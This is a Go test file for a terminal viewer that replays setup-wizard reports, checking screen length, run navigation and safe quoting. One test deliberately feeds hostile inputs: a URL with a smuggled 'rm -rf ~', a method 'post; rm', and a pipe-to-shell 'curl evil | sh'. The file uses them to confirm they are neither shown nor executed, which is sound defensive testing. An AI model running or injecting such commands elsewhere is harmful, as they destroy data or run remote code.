//go:build !race

package recording

import (
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/stretchr/testify/require"

	"telegent-setup/api"
	"telegent-setup/steps"
	"telegent-setup/steps/report"
	"telegent-setup/wizard/terminal"
)

// Rule: however long the texts of a stranger's report are, a screen stays short, and
// no edition, server or step that there is none of breaks it. The command that it
// names for a call is not shown.
func TestAStrangersReport(t *testing.T) {
	long := strings.Repeat("long ", 200_000)
	failed := steps.Stepped{Step: steps.Account, Number: 2, Status: steps.StatusFailed, Failure: &steps.Failure{
		Outcome: steps.Outcome{Kind: steps.Refused, Issue: steps.Code(long), Message: long},
		Step:    steps.Account, Title: long, Solution: long, FixLabel: long, TransactionLogID: long,
	}}
	call := steps.Exchanged{Step: steps.Account, Exchange: api.Exchange{
		Method: "post; rm", URL: "https://x/'; rm -rf ~", Curl: "curl evil | sh", Answer: long, Request: []byte(`{"AccountName":"` + long + `","X":[[1,{}],null]}`),
	}}
	saved := steps.Stepped{Step: steps.Provision, Number: 6, Status: steps.StatusDone, Saved: steps.Saved{steps.TNID: long, steps.PhoneNumber: long}}
	strange := report.Report{Edition: "1999-01", BaseURL: "gopher://" + long, Runs: []report.Run{{Events: []steps.Event{
		steps.Started{Edition: "1999-01", BaseURL: "://" + long, State: long}, call, failed, saved, saved, call,
	}}}}
	p, err := New(strange, 1, terminal.Terminal{Environ: []string{}})
	require.NoError(t, err)
	p.Update(terminal.WaitedMsg{})
	p.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	for at := range p.recording.Stops {
		p.goTo(at)
		for _, key := range []string{"", "r"} {
			p.Update(tea.KeyPressMsg{Code: 'x', Text: key})
			lines := p.Top().View(60, 20).Lines
			require.Less(t, len(lines), 2000)
			require.NotContains(t, strings.Join(lines, "\n"), "evil")
		}
	}
	require.Contains(t, report.Command(call.Exchange), `curl -X POST 'https://x/'\''; rm -rf ~'`)
	_, err = New(strange, 2, terminal.Terminal{Environ: []string{}})
	require.Error(t, err)
}

// Rule: a report of several runs begins with their list, at the last that failed; [ and
// ] change the run, and n finds the next failure.
func TestRuns(t *testing.T) {
	run := func(exit int, status steps.StepStatus, kind steps.OutcomeKind) report.Run {
		e := steps.Stepped{Step: steps.Account, Number: 2, Status: status}
		if kind != "" {
			e.Failure = &steps.Failure{Outcome: steps.Outcome{Kind: kind}, Step: steps.Account, Title: "The service refused this step."}
		}
		call := steps.Exchanged{Step: steps.Account, Exchange: api.Exchange{Time: time.Date(2026, 11, 23, 3, 45, 0, 0, time.UTC), Seconds: 4.2}}
		return report.Run{Events: []steps.Event{steps.Started{Edition: "2025-12"}, call, e, steps.Ended{Exit: exit}}}
	}
	made := report.Report{Edition: "2025-12", BaseURL: "https://api.telegent.com/v1.0", Runs: []report.Run{
		run(0, steps.StatusDone, ""), run(4, steps.StatusFailed, steps.Refused), run(3, steps.StatusDone, ""),
	}}
	p, err := New(made, 0, terminal.Terminal{Environ: []string{}})
	require.NoError(t, err)
	p.Update(terminal.WaitedMsg{})
	p.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	require.Contains(t, p.View().Content, "The report holds 3 runs")
	require.Contains(t, ansi.Strip(p.View().Content), "▸   2  2026-11-23 03:45:00   4 s         4: the service refused a step")
	press := func(k tea.KeyPressMsg) string {
		p.Update(k)
		return ansi.Strip(p.View().Content)
	}
	letter := func(r rune) tea.KeyPressMsg { return tea.KeyPressMsg{Code: r, Text: string(r)} }
	require.Contains(t, press(tea.KeyPressMsg{Code: tea.KeyEnter}), "2 of 3")
	require.Contains(t, press(letter('n')), "✗ The service refused this step.")
	require.Contains(t, press(letter(']')), "3 of 3")
	require.Contains(t, press(letter('n')), "Nothing failed in this run")
	require.Contains(t, press(letter(']')), "There is no other run there")
	press(letter('['))
	press(letter('['))
	require.Equal(t, 1, p.recording.Number)
}
